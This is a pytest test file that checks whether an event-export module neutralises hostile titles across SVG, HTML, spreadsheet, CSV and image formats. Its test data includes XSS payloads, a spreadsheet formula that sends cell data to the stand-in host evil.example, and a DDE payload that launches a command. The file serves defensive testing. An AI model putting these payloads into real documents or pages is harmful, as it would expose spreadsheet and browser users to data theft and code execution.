"""Titles that somebody made to hurt, or that no font has, do nothing in any format."""

import csv
import io
import re
from datetime import date
from xml.etree import ElementTree

import openpyxl
import pytest
from PIL import Image

from events import View
from exports import FORMATS, export
from loaders import load_events

pytestmark = pytest.mark.slow

TITLES = [
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-2",
    "bell\x07 and \x1b[31mred\x00 and \ufffe",
    "Peace 🕊️ and 👩‍👩‍👧 and 🇯🇵",
    "שלום وسلام \u202egnorw\u202c",
    "</title></desc></text><svg onload=alert(1)>",
    "$x^2$ \\frac{1}{2} $\\href{javascript:alert(1)}{x}$",
    "%(name)s {name} {0} &amp; &lt;",
    "長" * 2000,
    "w" * 2000,
]


@pytest.fixture(scope="module")
def table():
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(
        ["id", "start", "end", "title", "summary", "mission_type", "series", "place", "source_title", "source_url"]
    )
    for number, title in enumerate(TITLES):
        url = "https://example.org/?a=1&b=<x>"
        writer.writerow([f'e"{number}', 1990 + number, "..", title, title, title[:40], title[:60], title, title, url])
    return load_events(out.getvalue().encode(), as_of=date(2026, 11, 23)).table


@pytest.mark.parametrize("title", TITLES, ids=range(len(TITLES)))
@pytest.mark.parametrize("name", FORMATS)
def test_a_title_of_the_sheet_is_harmless(name, title, table, words):
    content = export(table, View(), name, title=title, note=title)
    assert words(name, content)


@pytest.mark.parametrize("title", ["half \ud800 a pair", "\udfff"])
@pytest.mark.parametrize("name", FORMATS)
def test_half_a_character_is_harmless(name, title, table, words):
    assert words(name, export(table, View(), name, title=title, note=title))


@pytest.mark.parametrize("lane", ["type", "series", "none"])
def test_events_with_such_titles_are_drawn(lane, table, words):
    view = View(lane=lane)
    said = words("svg", export(table, view, "svg"))
    assert "alert(1)" in said
    assert len(words("pptx", export(table, view, "pptx"))) > 1000
    assert words("pdf", export(table, view, "pdf"))
    with Image.open(io.BytesIO(export(table, view, "png"))) as picture:
        picture.load()


def test_nothing_of_a_title_is_markup_in_a_picture_or_a_page(table):
    tags = {each.tag.rpartition("}")[2] for each in ElementTree.fromstring(export(table, View(), "svg")).iter()}
    assert tags <= {
        "svg",
        "title",
        "desc",
        "metadata",
        "source",
        "rect",
        "g",
        "a",
        "text",
        "tspan",
        "polygon",
        "polyline",
    }
    page = export(table, View(), "html").decode()
    assert "<img" not in page.replace("plotly", "")[-400_000:]
    body = page[page.rindex("</script>") :]
    assert "<script" not in body
    assert "&lt;script&gt;alert(1)" in body
    assert page.count("<script>alert") == 0


def titles_in(book):
    """Return the titles of the events in a workbook."""
    head, *rows = book.worksheets[0].iter_rows(values_only=True)
    return [row[head.index("title")] for row in rows]


def test_no_cell_of_a_workbook_is_a_formula(table):
    book = openpyxl.load_workbook(io.BytesIO(export(table, View(), "xlsx")))
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert kinds <= {"s", "n"}
    titles = titles_in(book)
    assert '=HYPERLINK("http://evil.example/?"&A1,"click")' in titles


def test_no_cell_of_a_csv_begins_as_a_formula(table):
    rows = list(csv.reader(io.StringIO(export(table, View(), "csv").decode("utf-8-sig"))))
    numbers = {rows[0].index(name) for name in ("latitude", "longitude", "personnel", "importance")}
    for row in rows:
        for column, cell in enumerate(row):
            assert column in numbers or not re.match(r"[=+\-@\t\r\n]", cell)


def test_a_cell_longer_than_excel_allows_is_cut_and_says_so():
    table = load_events(f"start,title\n1992,{'a' * 40_000}\n".encode()).table
    book = openpyxl.load_workbook(io.BytesIO(export(table, View(), "xlsx")))
    (title,) = titles_in(book)
    assert title[-2:] == "a…"
    assert len(title) == 32_767
